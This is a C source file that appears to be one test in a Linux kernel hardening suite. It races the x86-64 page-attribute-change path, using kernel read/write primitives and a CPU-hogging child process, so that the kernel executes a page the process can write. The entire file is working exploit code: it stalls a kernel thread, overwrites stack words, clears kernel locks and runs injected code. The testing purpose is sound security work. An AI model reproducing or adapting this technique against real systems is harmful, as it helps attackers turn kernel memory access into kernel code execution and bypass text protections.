// SPDX-License-Identifier: GPL-2.0-only
/*
 * Text is believed when all tables were searched for what can write it. Which search that
 * was is known by a mutex, which is ordinary memory. Who has begun one, and enters his pages,
 * is kept from the CPU. Meanwhile somebody else begins and ends another. Pages that are
 * entered behind it count as searched for: one of them is the attacker's, who can write it.
 */
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "answer.h"
#include "attack.h"
#include "deposit.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PACKS		"pack_list"
#define PACK_MUTEX	"pack_mutex"
#define ARRIVALS	"arrivals_lock"
#define PACK_PAGES	512
#define LIST_LAST	8
#define FILTERS		200	/* more than a pack has room for */
#define LOCK		"cpa_lock"
#define LOOP		"__change_page_attr_set_clr"
#define LENGTH		0xb00	/* at most, with all that it calls in line */
#define WRITABLE	2
#define STACK		16384
#define KIND		0x07	/* of a frame's byte */
#define MODULE_FRAME	5	/* one that comes as well */
#define SEEN		8	/* pages that are entered, and then he is stopped */
#define PAUSE		2000	/* microseconds */
#define PATIENCE	1500	/* pauses */
#define TRIES		50

/* What it says of the pages to be changed: struct cpa_data. */
enum { VADDR, PGD, MASK_SET, MASK_CLR, NUMPAGES, CURPAGE, CPA_WORDS };

static struct {
	uint64_t packs, page, frames, from, stack;
	volatile char *at;
	bool is_other;
	int wake[2];
} text;

static struct {
	volatile bool stop, runs;
} *hog;

static uint64_t last_pack(void)
{
	return kread64(text.packs + LIST_LAST);
}

/* They stay. */
static void fill_pack(void)
{
	uint64_t last = last_pack();
	int i;

	for (i = 0; i < FILTERS && last_pack() == last; i++)
		held_long_filter();
}

static void need_pack(void)
{
	const struct sched_param none = { 0 };

	sched_setscheduler(0, SCHED_IDLE, &none);
	fill_pack();
}

/* Everything is more urgent than who is idle. */
static void start_hog(void)
{
	char byte;

	hog = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (pipe(text.wake) || fork())
		return;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	stay_on_cpu(HELD_CPU);
	if (read(text.wake[0], &byte, 1) != 1)
		_exit(1);
	hog->runs = true;
	while (!hog->stop)
		;
	_exit(0);
}

static bool is_cpa(const uint64_t *words)
{
	return !words[PGD] && words[MASK_CLR] && is_kernel_address(words[VADDR]) &&
	       words[CURPAGE] < PACK_PAGES &&
	       (words[NUMPAGES] == 1 || words[NUMPAGES] == PACK_PAGES - words[CURPAGE]);
}

static void replace(uint64_t addr, uint64_t from, uint64_t to)
{
	uint64_t end = (addr | (STACK - 1)) + 1, word;
	int nr = 0;

	text.stack = end - STACK;
	for (addr -= HELD_BELOW * sizeof(word); addr < end; addr += sizeof(word)) {
		word = kread64(addr);
		if (word != from)
			continue;
		kwrite64(addr, to);
		nr++;
	}
	printf("# %d words of 0x%lx are 0x%lx now\n", nr, from, to);
}

static bool change_pages(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	int i;

	(void)change;
	for (i = 0; i + CPA_WORDS <= HELD_ABOVE; i++) {
		if (!is_cpa(words + i))
			continue;
		text.is_other = words[i + MASK_CLR] != WRITABLE && words[i + MASK_CLR] != 0x42;
		text.is_other |= words[i + CURPAGE] || words[i + NUMPAGES] != PACK_PAGES;
		printf("# waits: clears 0x%lx, %lu of %lu\n", words[i + MASK_CLR], words[i + CURPAGE],
		       words[i + NUMPAGES]);
		if (text.is_other)
			return false;
		text.from = kread64(words[i + VADDR]);
		replace(addr, text.from, text.page);
		return true;
	}
	return false;
}

static bool is_over(const struct held_change *change)
{
	(void)change;
	return text.is_other || held_is_done();
}

/* He makes our pages read-only, and has them run. */
static bool change_address(void)
{
	const struct held_lock lock = { ksymbol(LOCK), NULL };
	const struct held_change pages = { LOOP, LENGTH, change_pages, is_over, NULL };
	bool changed = held_act(&lock, &pages);
	int i;

	for (i = 0; i < TRIES && !changed && text.is_other; i++) {
		text.is_other = false;
		changed = held_again(&lock, &pages);
	}
	return changed;
}

static int nr_entered(void)
{
	unsigned char bytes[PACK_PAGES];
	int i, nr = 0;

	kread(text.frames, bytes, sizeof(bytes));
	for (i = 0; i < PACK_PAGES; i++)
		nr += (bytes[i] & KIND) == MODULE_FRAME;
	return nr;
}

static unsigned char frame(int i)
{
	unsigned char byte = 0;

	kread(text.frames + i, &byte, 1);
	return byte & KIND;
}

static int stop_him(void)
{
	int i;

	for (i = 0; i < 400000 && frame(SEEN) != MODULE_FRAME; i++)
		;
	if (write(text.wake[1], "", 1) != 1)
		return 0;
	for (i = 0; i < PATIENCE && !hog->runs; i++)
		usleep(PAUSE / 10);
	return nr_entered();
}

/* All but its last page is not mapped by us any more. */
static bool find_page(void)
{
	struct huge huge;
	struct slot slot;

	if (!make_huge(&huge) || kwalk((uint64_t)huge.at, LEAF, 0, &slot))
		return false;
	text.page = direct_map_base() + (slot.value & PTE_PFN_MASK & -PMD_SIZE);
	text.frames = frame_at((slot.value & PTE_PFN_MASK & -PMD_SIZE) / PAGE_SIZE);
	text.at = huge.at + PMD_SIZE - PAGE_SIZE;
	return !munmap((void *)huge.at, PMD_SIZE - PAGE_SIZE);
}

/* Behind the search of another pack, which begins and ends meanwhile. */
static int enter_behind(void)
{
	uint64_t before = last_pack();
	int entered = stop_him();

	printf("# %d pages are entered, the last one is 0x%x\n", entered, frame(PACK_PAGES - 1));
	if (!entered || frame(PACK_PAGES - 1) == MODULE_FRAME)
		return 0;
	kwrite64(ksymbol(ARRIVALS), 0);
	kwrite64(ksymbol(PACK_MUTEX), 0);
	fill_pack();
	printf("# another pack 0x%lx behind 0x%lx, %d are entered\n", last_pack(), before,
	       nr_entered());
	return entered;
}

enum outcome text_behind(void)
{
	uint64_t value = 0;
	int err, i, entered;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	text.packs = ksymbol(PACKS);
	if (!text.packs || !ksymbol(LOCK) || !find_page())
		return broken("no packs, no lock or no huge page");
	if (!text.frames)
		return lost("nothing is searched");
	start_hog();
	held_start(need_pack);
	if (!change_address()) {
		held_stop();
		return broken("nothing waited that was about to be made read-only");
	}
	entered = enter_behind();
	hog->stop = true;
	for (i = 0; entered && i < PATIENCE && !held_is_done(); i++)
		usleep(PAUSE);
	held_stop();
	if (!entered)
		return broken("he was not stopped in time");
	memcpy((void *)text.at, answer_code, ANSWER_SIZE);
	err = call_answer(text.page + PMD_SIZE - PAGE_SIZE, &value);
	if (!is_answer(err, value))
		return lost("the kernel does not run a page of this process (error %d)", -err);
	return won("the kernel runs a page that this process can write, and returned 0x%lx", value);
}
#else
enum outcome text_behind(void)
{
	return skipped("x86-64 only");
}
#endif
